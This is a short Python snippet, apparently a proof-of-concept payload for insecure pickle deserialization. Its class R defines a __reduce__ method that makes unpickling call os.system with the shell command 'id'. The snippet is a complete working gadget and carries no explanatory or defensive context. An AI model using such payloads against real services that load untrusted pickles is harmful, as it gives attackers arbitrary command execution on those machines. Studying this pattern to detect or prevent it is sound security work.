class R:
    def __reduce__(self):
        import os
        return (os.system, ('id',))
